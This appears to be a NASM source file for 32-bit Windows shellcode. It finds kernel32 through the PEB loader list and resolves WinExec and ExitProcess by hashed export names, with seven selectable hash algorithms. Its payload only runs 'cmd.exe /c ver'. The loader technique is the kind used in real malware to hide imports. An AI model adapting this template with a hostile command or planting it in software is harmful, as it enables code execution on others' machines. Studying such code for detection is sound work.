; Windows, 32 bit: WinExec("cmd.exe /c ver") and ExitProcess, found by hashes of their names. HASH says
; which function of the characters: 0 CRC-32, 1 FNV-1a, 2 sdbm, 3 ror 13 over name and terminator, 4 DJB2 with
; xor, 5 rol 7 and add, 6 one at a time (Jenkins).
%ifndef HASH
%define HASH 0
%endif
%macro HASHED 2
%strlen %%length %2
%if HASH == 0
%assign %%h 0xffffffff
%elif HASH == 1
%assign %%h 0x811c9dc5
%elif HASH == 4
%assign %%h 5381
%else
%assign %%h 0
%endif
%assign %%i 1
%rep %%length
%substr %%c %2 %%i
%if HASH == 0
%assign %%h %%h ^ %%c
%rep 8
%if %%h & 1
%assign %%h (%%h >> 1) ^ 0xedb88320
%else
%assign %%h %%h >> 1
%endif
%endrep
%elif HASH == 1
%assign %%h ((%%h ^ %%c) * 0x01000193) & 0xffffffff
%elif HASH == 2
%assign %%h (%%h * 65599 + %%c) & 0xffffffff
%elif HASH == 3
%assign %%h (((%%h >> 13) | (%%h << 19)) + %%c) & 0xffffffff
%elif HASH == 4
%assign %%h ((%%h * 33) ^ %%c) & 0xffffffff
%elif HASH == 5
%assign %%h (((%%h << 7) | (%%h >> 25)) + %%c) & 0xffffffff
%else
%assign %%h (%%h + %%c) & 0xffffffff
%assign %%h (%%h + (%%h << 10)) & 0xffffffff
%assign %%h %%h ^ (%%h >> 6)
%endif
%assign %%i %%i + 1
%endrep
%if HASH == 3
%assign %%h ((%%h >> 13) | (%%h << 19)) & 0xffffffff
%endif
%1 equ %%h
%endmacro
HASHED win_exec, 'WinExec'
HASHED exit_process, 'ExitProcess'
bits 32
        cld
        jmp main
; find: hash in edi; function in eax
find:   push byte 0x30
        pop edx
        mov edx, [fs:edx]
        mov edx, [edx + 0x0c]
        mov edx, [edx + 0x14]   ; memory order: program, ntdll, kernel32
module: mov ebx, [edx + 0x10]
        mov edx, [edx]
        push edx
        test ebx, ebx
        jz none
        mov eax, [ebx + 0x3c]
        mov edx, [ebx + eax + 0x78]
        test edx, edx
        jz none
        add edx, ebx
        mov ecx, [edx + 0x18]
name:   jecxz none
        dec ecx
        mov esi, [edx + 0x20]
        add esi, ebx
        mov esi, [esi + ecx * 4]
        add esi, ebx
        push ecx
%if HASH == 0
        or ebp, byte -1
%elif HASH == 1
        mov ebp, 0x811c9dc5
%elif HASH == 4
        mov ebp, 5381
%else
        xor ebp, ebp
%endif
        xor eax, eax
letter: lodsb
%if HASH == 3
        ror ebp, 13
        add ebp, eax
        test al, al
        jnz letter
%else
        test al, al
        jz hashed
%if HASH == 0
        xor ebp, eax
        push byte 8
        pop ecx
bit:    shr ebp, 1
        jnc even
        xor ebp, 0xedb88320
even:   loop bit
%elif HASH == 1
        xor ebp, eax
        imul ebp, ebp, 0x01000193
%elif HASH == 2
        imul ebp, ebp, 65599
        add ebp, eax
%elif HASH == 4
        imul ebp, ebp, 33
        xor ebp, eax
%elif HASH == 5
        rol ebp, 7
        add ebp, eax
%else
        add ebp, eax
        mov ecx, ebp
        shl ecx, 10
        add ebp, ecx
        mov ecx, ebp
        shr ecx, 6
        xor ebp, ecx
%endif
        jmp short letter
%endif
hashed: pop ecx
        cmp ebp, edi
        jnz name
        pop eax
        mov eax, [edx + 0x24]
        add eax, ebx
        movzx ecx, word [eax + ecx * 2]
        mov eax, [edx + 0x1c]
        add eax, ebx
        mov eax, [eax + ecx * 4]
        add eax, ebx
        ret
none:   pop edx
        jmp module
main:   mov edi, win_exec
        call find
        call run
        db 'cmd.exe /c ver', 0
run:    pop edx
        push byte 5
        push edx
        call eax
        mov edi, exit_process
        call find
        push byte 0
        call eax
